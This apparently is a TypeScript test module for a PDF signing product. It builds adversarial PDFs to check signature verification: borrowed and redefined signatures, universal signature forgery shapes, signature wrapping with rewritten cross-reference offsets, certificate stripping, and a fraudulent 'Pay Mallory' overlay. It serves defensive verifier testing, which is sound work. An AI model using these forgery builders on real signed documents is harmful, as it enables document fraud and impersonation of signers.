// Adversarial PDFs against signature verification: each builder takes a PDF
// that Signet signed and returns what an attacker without the key could make of it. The classes
// follow "PDF Insecurity" (universal signature forgery, signature wrapping) and the borrowed signature
// (a new signature dictionary borrowing another signature's /ByteRange and CMS).
import * as pkijs from "pkijs";
import { PDF, PdfArray, PdfDict, PdfName, PdfNull, PdfNumber, type PdfObject, type PdfRef, PdfString } from "@libpdf/core";
import { readElement } from "#domain/pki/der.ts";

/** SignatureParts are where the last signature's pieces sit in a signed file. */
export interface SignatureParts {
  byteRange: [number, number, number, number];
  /** The DER of the CMS (the /Contents value without padding). */
  der: Buffer;
  /** The gap: [offset of "<", offset after ">"]. */
  gap: [number, number];
}

/** signatureParts reads the first signature's /ByteRange and CMS from the bytes (Signet's layout: /ByteRange before /Contents). */
export function signatureParts(pdf: Buffer, which: "first" | "last" = "first"): SignatureParts {
  const text = pdf.toString("latin1");
  const at = which === "first" ? text.indexOf("/ByteRange [") : text.lastIndexOf("/ByteRange [");
  const match = /\/ByteRange \[(\d+) (\d+) (\d+) (\d+)\s*\]/.exec(text.slice(at))!;
  const byteRange = match.slice(1, 5).map(Number) as [number, number, number, number];
  const gap: [number, number] = [byteRange[1], byteRange[2]];
  const padded = Buffer.from(text.slice(gap[0] + 1, gap[1] - 1), "hex");
  return { byteRange, der: padded.subarray(0, readElement(padded, 0).end), gap };
}

const resolver = (pdf: PDF) => (ref: PdfRef) => pdf.getObject(ref);

/** firstSignatureDict is the signature dictionary of a file's first signed field, and its reference. */
function firstSignature(pdf: PDF): { dict: PdfDict; ref: PdfRef } {
  const field = pdf
    .getForm()!
    .getFields()
    .find((candidate) => candidate.type === "signature")!;
  const ref = field.getDict().get("V") as PdfRef;
  return { dict: pdf.getObject(ref) as PdfDict, ref };
}

async function incremental(pdf: PDF): Promise<Buffer> {
  return Buffer.from(await pdf.save({ incremental: true }));
}

/** overlay puts a visible stamp over the first page's text: the "Pay Mallory" change a certification with P=3 would allow. */
function addOverlay(pdf: PDF): void {
  const page = pdf.getPages()[0]!;
  const appearance = pdf.register(
    PdfDict.of({
      Type: PdfName.of("XObject"),
      Subtype: PdfName.of("Form"),
      BBox: new PdfArray([0, 0, 400, 60].map((value) => PdfNumber.of(value))),
    }),
  );
  const note = pdf.register(
    PdfDict.of({
      Type: PdfName.of("Annot"),
      Subtype: PdfName.of("FreeText"),
      Rect: new PdfArray([50, 690, 450, 750].map((value) => PdfNumber.of(value))),
      Contents: PdfString.fromString("Pay Mallory 1,000,000 EUR"),
      DA: PdfString.fromString("/Helv 24 Tf 1 0 0 rg"),
      AP: PdfDict.of({ N: appearance }),
    }),
  );
  const annots = page.dict.getArray("Annots", resolver(pdf));
  if (annots) annots.push(note);
  else page.dict.set("Annots", new PdfArray([note]));
}

/** BorrowOptions shape a borrowed-signature forgery. */
export interface BorrowOptions {
  name?: string;
  contactInfo?: string;
  /** A PDF date for /M. */
  m?: string;
  /** Put a DocMDP /Reference with this P in the forged dictionary. */
  docMdp?: 1 | 2 | 3;
  /** Also name the forged dictionary in the catalog's /Perms /DocMDP. */
  perms?: boolean;
  /** Add an overlay annotation over page 1 in the same update. */
  overlay?: boolean;
}

/**
 * borrowSignature appends an update with a new signature field whose new, unsigned signature
 * dictionary reuses the first signature's /ByteRange and /Contents (a valid CMS over the signed
 * bytes), and claims its own /Name, /ContactInfo, /M and optionally a DocMDP permission.
 */
export async function borrowSignature(signed: Buffer, options: BorrowOptions = {}): Promise<Buffer> {
  const pdf = await PDF.load(signed);
  const { dict } = firstSignature(pdf);
  const forged = PdfDict.of({
    Type: PdfName.of("Sig"),
    Filter: PdfName.of("Adobe.PPKLite"),
    SubFilter: dict.get("SubFilter")!,
    ByteRange: dict.get("ByteRange")!,
    Contents: dict.get("Contents")!,
    ...(options.name ? { Name: PdfString.fromString(options.name) } : {}),
    ...(options.contactInfo ? { ContactInfo: PdfString.fromString(options.contactInfo) } : {}),
    ...(options.m ? { M: PdfString.fromString(options.m) } : {}),
    Reason: PdfString.fromString("Approved for payment"),
    ...(options.docMdp
      ? {
          Reference: new PdfArray([
            PdfDict.of({
              Type: PdfName.of("SigRef"),
              TransformMethod: PdfName.of("DocMDP"),
              TransformParams: PdfDict.of({ Type: PdfName.of("TransformParams"), P: PdfNumber.of(options.docMdp), V: PdfName.of("1.2") }),
            }),
          ]),
        }
      : {}),
  });
  const ref = pdf.register(forged);
  pdf.getOrCreateForm().createSignatureField("Approval").getDict().set("V", ref);
  if (options.perms) pdf.getCatalog().set("Perms", PdfDict.of({ DocMDP: ref }));
  if (options.overlay) addOverlay(pdf);
  return incremental(pdf);
}

/** redefineSignature appends an update that redefines the first signature's own dictionary (same object number) with another /Name and /M. */
export async function redefineSignature(signed: Buffer, name: string, m: string): Promise<Buffer> {
  const pdf = await PDF.load(signed);
  const { dict } = firstSignature(pdf);
  dict.set("Name", PdfString.fromString(name));
  dict.set("M", PdfString.fromString(m));
  return incremental(pdf);
}

/**
 * forgedField appends a new signature field whose signature dictionary has exactly `entries`
 * (universal signature forgery: /Contents or /ByteRange missing, null, empty or of the wrong type).
 */
export async function forgedField(pdf: Buffer, entries: Record<string, PdfObject>): Promise<Buffer> {
  const doc = await PDF.load(pdf);
  const ref = doc.register(
    PdfDict.of({ Type: PdfName.of("Sig"), Filter: PdfName.of("Adobe.PPKLite"), SubFilter: PdfName.of("ETSI.CAdES.detached"), ...entries }),
  );
  doc.getOrCreateForm().createSignatureField("Forged").getDict().set("V", ref);
  return incremental(doc);
}

/** directSignature appends a new signature field whose /V is a direct copy of the first signature's dictionary (ISO 32000 wants an indirect reference). */
export async function directSignature(signed: Buffer): Promise<Buffer> {
  const pdf = await PDF.load(signed);
  const { dict } = firstSignature(pdf);
  pdf.getOrCreateForm().createSignatureField("Direct").getDict().set("V", dict.clone());
  return incremental(pdf);
}

/** replaceGap writes `hex` (padded with zeros to the gap's size) into the first signature's /Contents gap: the signed bytes stay as they are. */
export function replaceGap(signed: Buffer, hex: string): Buffer {
  const { gap } = signatureParts(signed);
  const width = gap[1] - gap[0] - 2;
  if (hex.length > width) throw new Error("the replacement does not fit the gap");
  const out = Buffer.from(signed);
  out.write(hex.padEnd(width, "0"), gap[0] + 1, "latin1");
  return out;
}

/** withoutCertificates re-encodes a CMS SignedData without its certificates (the signer's certificate missing). */
export function withoutCertificates(der: Buffer): Buffer {
  const contentInfo = pkijs.ContentInfo.fromBER(der);
  const signedData = new pkijs.SignedData({ schema: contentInfo.content });
  delete signedData.certificates;
  return Buffer.from(new pkijs.ContentInfo({ contentType: contentInfo.contentType, content: signedData.toSchema(true) }).toSchema().toBER(false));
}

/**
 * insertAfterGap moves the second signed part further down and puts `insert` between the /Contents
 * string and it (signature wrapping). The file stays well-formed: every cross-reference offset,
 * /Prev and startxref past the insertion moves with it (classic tables), so a strict reader reads
 * it and judges the signature rather than failing on a broken table.
 */
export function insertAfterGap(signed: Buffer, insert: string): Buffer {
  const { gap } = signatureParts(signed);
  const by = Buffer.byteLength(insert, "latin1");
  const shift = (offset: string) => (Number(offset) >= gap[1] ? Number(offset) + by : Number(offset));
  const after = signed
    .subarray(gap[1])
    .toString("latin1")
    .replace(/^(\d{10}) (\d{5}) n(?=\s)/gm, (_, offset: string, generation: string) => `${String(shift(offset)).padStart(10, "0")} ${generation} n`)
    .replace(/\/Prev (\d+)/g, (_, offset: string) => `/Prev ${shift(offset)}`)
    .replace(/startxref(\s+)(\d+)/g, (_, space: string, offset: string) => `startxref${space}${shift(offset)}`);
  return Buffer.concat([signed.subarray(0, gap[1]), Buffer.from(insert, "latin1"), Buffer.from(after, "latin1")]);
}

/**
 * widenGap rewrites the /ByteRange so that its gap spans the /Contents string and the dictionary
 * entries after it up to `>>` (where an attacker would hide content), keeping its text's width.
 * In Signet's layout the /ByteRange lies in the signed bytes, so this also breaks the digest.
 */
export function widenGap(signed: Buffer): Buffer {
  const { byteRange, gap } = signatureParts(signed);
  const text = signed.toString("latin1");
  const end = text.indexOf(">>", gap[1]);
  const widened = [0, byteRange[1], end, byteRange[2] + byteRange[3] - end];
  const at = text.indexOf("/ByteRange [");
  const old = /\/ByteRange \[[^\]]*\]\s*/.exec(text.slice(at))![0];
  const out = Buffer.from(signed);
  out.write(`/ByteRange [${widened.join(" ")}]`.padEnd(old.length, " "), at, "latin1");
  return out;
}

/** Universal signature forgery shapes for forgedField, each with the /Contents and /ByteRange it claims. */
export function universalForgeries(parts: SignatureParts): Record<string, Record<string, PdfObject>> {
  const range = new PdfArray(parts.byteRange.map((value) => PdfNumber.of(value)));
  const contents = new PdfString(parts.der, "hex");
  return {
    "no /Contents": { ByteRange: range },
    "/Contents null": { ByteRange: range, Contents: PdfNull.instance },
    "/Contents empty": { ByteRange: range, Contents: new PdfString(new Uint8Array(0), "hex") },
    "/Contents all zeros": { ByteRange: range, Contents: new PdfString(new Uint8Array(64), "hex") },
    "/Contents a name": { ByteRange: range, Contents: PdfName.of("Signed") },
    "/Contents a number": { ByteRange: range, Contents: PdfNumber.of(0) },
    "no /ByteRange": { Contents: contents },
    "/ByteRange null": { ByteRange: PdfNull.instance, Contents: contents },
    "/ByteRange empty": { ByteRange: new PdfArray([]), Contents: contents },
    "/ByteRange [0 0 0 0]": { ByteRange: new PdfArray([0, 0, 0, 0].map((value) => PdfNumber.of(value))), Contents: contents },
    "/ByteRange with three numbers": { ByteRange: new PdfArray(parts.byteRange.slice(0, 3).map((value) => PdfNumber.of(value))), Contents: contents },
    "/ByteRange negative": { ByteRange: new PdfArray([0, -1, parts.byteRange[2], parts.byteRange[3]].map((value) => PdfNumber.of(value))), Contents: contents },
    "/ByteRange a string": { ByteRange: PdfString.fromString(parts.byteRange.join(" ")), Contents: contents },
    "/ByteRange of names": { ByteRange: new PdfArray(parts.byteRange.map((value) => PdfName.of(String(value)))), Contents: contents },
    "/ByteRange past the end of the file": {
      ByteRange: new PdfArray([0, parts.byteRange[1], parts.byteRange[2], 99_999_999].map((value) => PdfNumber.of(value))),
      Contents: contents,
    },
    "/ByteRange overlapping": {
      ByteRange: new PdfArray([0, parts.byteRange[2], parts.byteRange[1], parts.byteRange[3]].map((value) => PdfNumber.of(value))),
      Contents: contents,
    },
  };
}

/** pdfDate formats a date as a PDF date string. */
export function pdfDate(date: Date): string {
  const pad = (value: number) => String(value).padStart(2, "0");
  return `D:${date.getUTCFullYear()}${pad(date.getUTCMonth() + 1)}${pad(date.getUTCDate())}${pad(date.getUTCHours())}${pad(date.getUTCMinutes())}${pad(date.getUTCSeconds())}Z`;
}
